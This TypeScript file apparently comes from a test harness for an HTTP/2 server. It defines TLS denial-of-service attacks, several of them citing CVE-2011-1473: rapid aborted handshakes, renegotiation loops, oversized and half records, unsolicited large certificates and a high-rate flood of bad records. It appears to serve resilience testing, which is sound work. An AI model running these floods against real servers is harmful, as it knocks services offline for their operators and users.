import { once } from 'node:events'
import type { Socket } from 'node:net'
import { Duplex } from 'node:stream'
import { connect, type TLSSocket } from 'node:tls'
import { CLIENT_PREFACE } from '@h2lab/mini-http2/frames'
import { clientCertificate, clientHello, tlsRecord } from '../wire/client-hello'
import { headers } from '../wire/frames'
import type { Attack } from './attack'
import { flood, hold } from './floods'
import type { Hostile } from './hostile'

/*
 * TLS that breaks off, or goes another way than it should.
 */

const APPLICATION_DATA = 23
const HANDSHAKE = 22

/** How often one connection after the other is opened, by all of a single attacker. */
const PAUSE = 5

/** A thousand clients open one every ten seconds. */
const PAUSE_BELOW = 10_000

/** Opens one connection after the other, as often as is decent. */
function again(
  name: string,
  advisory: string,
  sends: string,
  once: (host: Hostile) => Promise<void>,
): Attack {
  return {
    name,
    advisory,
    sends,
    needs: ['tls'],
    async run(host) {
      for (;;) {
        // Whether it is refused is up to the server, which sees the next one in any case.
        await once(host).catch(() => host.refused())
        if (!(await host.sleep(host.below ? PAUSE_BELOW : PAUSE))) return
      }
    },
  }
}

export const TLS: readonly Attack[] = [
  again(
    'tls-aborted-handshakes',
    'CVE-2011-1473',
    'ClientHello, and a reset when the server has answered, 200 times a second.',
    async (host) => {
      const connection = await host.tcp()
      await connection.send(clientHello())
      await connection.received()
      connection.close('reset')
    },
  ),
  again(
    'tls-early-close',
    'CVE-2011-1473',
    'Connections that end before their ClientHello is whole, 200 times a second.',
    async (host) => {
      const connection = await host.tcp()
      await connection.send(clientHello().subarray(0, 60))
      connection.close()
    },
  ),
  again(
    'tls-plain-text',
    'RFC 9113 section 3.2',
    'HTTP/2 without TLS, 200 times a second.',
    async (host) => {
      const connection = await host.tcp()
      await connection.send(CLIENT_PREFACE, headers(1, host.request()))
      await connection.received()
      connection.close()
    },
  ),
  again(
    'tls-wrong-alpn',
    'CVE-2021-3618',
    'Handshakes that offer http/1.1 only, then a request in it.',
    async (host) => {
      const connection = await host.secure({ ALPNProtocols: ['http/1.1'] })
      await connection.send(Buffer.from('GET / HTTP/1.1\r\nhost: localhost\r\n\r\n'))
      await connection.received()
      connection.close()
    },
  ),
  again(
    'tls-unsolicited-certificate',
    'RFC 5246 section 7.4.6',
    'A client certificate of 60 KB that the server did not ask for.',
    async (host) => {
      const connection = await host.tcp()
      await connection.send(clientHello())
      await connection.received()
      await connection.send(clientCertificate(60_000))
      await connection.received()
      connection.close()
    },
  ),
  again(
    'tls-oversized-records',
    'RFC 8446 section 5.1',
    'A handshake record that says to be larger than TLS allows.',
    async (host) => {
      const connection = await host.tcp()
      await connection.send(tlsRecord(HANDSHAKE, new Uint8Array(20_000), 65_535))
      await connection.received()
      connection.close()
    },
  ),
  {
    name: 'tls-bad-record-flood',
    advisory: 'RFC 8446 section 5.2',
    sends: 'After the handshake a record that is not encrypted, then octets without end.',
    needs: ['tls'],
    rate: { octetsPerSecond: 268_435_456, control: 'uploads' },
    async run(host) {
      const connection = await host.tcp(true)
      await handshake(connection.socket)
      await connection.send(tlsRecord(APPLICATION_DATA, new Uint8Array(32).fill(0x5a)))
      await flood(host, connection, tlsRecord(APPLICATION_DATA, new Uint8Array(16_384)), {
        burst: 3,
        perSecond: 1,
      })
    },
  },
  again(
    'tls-renegotiation',
    'CVE-2011-1473',
    'TLS 1.2 that is renegotiated as soon as it is there.',
    async (host) => {
      const connection = await host.secure({ maxVersion: 'TLSv1.2' })
      await connection.begin()
      const socket = connection.socket as TLSSocket
      socket.renegotiate({ rejectUnauthorized: false }, () => {})
      // A refusal is an alert that Node does not tell of.
      await Promise.race([host.sleep(50), connection.over()])
      connection.close()
    },
  ),
  {
    name: 'tls-half-record',
    advisory: 'RFC 8446 section 5.1',
    sends: 'After the handshake half a record of 16 KiB, then silence.',
    needs: ['tls'],
    async run(host) {
      const connection = await host.tcp(true)
      await handshake(connection.socket)
      await connection.send(tlsRecord(APPLICATION_DATA, new Uint8Array(16_000), 16_384))
      await hold(connection)
    },
  },
]

/** Makes a handshake over a socket that stays free to send other octets. */
async function handshake(socket: Socket): Promise<void> {
  const tunnel = new Duplex({
    read: () => {},
    write: (chunk: Buffer, _encoding, done) => void socket.write(chunk, () => done()),
  })
  socket.on('data', (octets: Buffer) => void tunnel.push(octets))
  const secure = connect({ socket: tunnel, ALPNProtocols: ['h2'], rejectUnauthorized: false })
  secure.on('error', () => {})
  await Promise.race([once(secure, 'secureConnect'), once(socket, 'close')])
}
